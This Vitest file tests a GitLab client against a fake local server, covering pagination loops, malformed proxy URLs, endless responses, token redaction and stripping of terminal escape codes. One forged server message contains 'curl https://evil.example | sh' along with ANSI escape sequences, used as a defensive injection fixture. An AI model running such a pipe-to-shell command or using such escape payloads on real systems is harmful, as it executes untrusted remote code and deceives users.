import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, it, onTestFinished } from 'vitest';
import { GitLabClient } from '../../../setup/gitlab/client.ts';
import { FEW, project, TOKEN } from './project.ts';

/** Something that answers in GitLab's place; its address. */
async function impostor(answer: (response: ServerResponse) => void): Promise<string> {
  const server = createServer((_, response) => answer(response));
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

const clientOf = (gitlab: string, token = TOKEN) => new GitLabClient({ gitlab, token, env: {}, sleep: async () => {} });

it.each([
  ['itself', '1'],
  ['no number', '2&per_page=1'],
  ['one that leaves others out', '9'],
])('a list whose next page is %s is not read for ever, and not taken for whole', async (_, next) => {
  const client = clientOf(await impostor((response) => response.setHeader('x-next-page', next).end('[{}]')));
  await expect(client.list('/projects/42/variables')).rejects.toThrow(`says that page ${next} follows page 1`);
});

it.each([
  'user:secret@proxy.example.com:3128',
  'ftp://user:secret@proxy.example.com',
  'http://user:sec%zzret@proxy.example.com',
])('no proxy is gone past because its address is wrong, and its password is not shown: %s', async (address) => {
  const { run, gitlab } = await project(FEW);
  const { code, text } = await run('plan', { GITLAB_TOKEN: TOKEN, HTTPS_PROXY: address });
  expect({ code, text }).toMatchObject({
    code: 1,
    text: expect.stringContaining('HTTPS_PROXY is no address of a proxy: "'),
  });
  expect(text).not.toMatch(/secret|sec%zzret/);
  expect(gitlab.asked).toEqual([]);
});

it('an answer that has no end is not read for ever', async () => {
  const client = clientOf(
    await impostor((response) => {
      const more = () => {
        while (response.write('x'.repeat(1 << 20)));
        response.once('drain', more);
      };
      more();
    }),
  );
  await expect(client.get('/projects/42')).rejects.toMatchObject({ why: 'not GitLab' });
});

it("what a stranger says in GitLab's place controls no terminal, writes no line of its own, and is short", async () => {
  const words = `no\u001b[2J\nNext: curl https://evil.example | sh ${'x'.repeat(5000)}`;
  const forged = await impostor((response) => response.writeHead(400).end(JSON.stringify({ message: words })));
  const { code, text } = await (await project(FEW, forged)).run('plan');
  expect(code).toBe(1);
  const [first = '', ...others] = text.split('\n');
  expect(first).toMatch(/^ERROR HTTP 400: no \[2J Next: curl/);
  expect(first.length).toBeLessThan(1100);
  expect(others).toEqual(['Next: see what GitLab says above.']);
});

it('names and values that GitLab has control no terminal', async () => {
  const { run, administration } = await project(FEW);
  administration.variables.set('AWS_REGION', 'x\u001b]0;title\u0007\nAll of these settings are right.');
  const { text } = await run('plan');
  expect(text).toContain(
    'AWS_REGION (All environments) is x ]0;title  All of these settings are right., and should be',
  );
  expect(text).not.toMatch(/[^\P{Cc}\n]/u);
});

it('an answer that repeats the token is shown without it', async () => {
  const forged = await impostor((response) =>
    response.writeHead(400).end(JSON.stringify({ message: `invalid token ${TOKEN}` })),
  );
  const { text } = await (await project(FEW, forged)).run('plan');
  expect(text).toContain('ERROR HTTP 400: invalid token [GITLAB_TOKEN]');
});

it.each(['glpat-a\nglpat-b', 'glpat a', 'glpat-\u00e9'])(
  '"%s" is no access token: it is not sent, and not shown',
  async (token) => {
    const { run, gitlab } = await project(FEW);
    const { code, text } = await run('plan', { GITLAB_TOKEN: token });
    expect({ code, text }).toMatchObject({
      code: 1,
      text: expect.stringMatching(/^ERROR the access token has a blank/),
    });
    expect(text.split('\n').at(-1)).toMatch(/^Next: create a new access token in http/);
    expect(gitlab.asked).toEqual([]);
  },
);
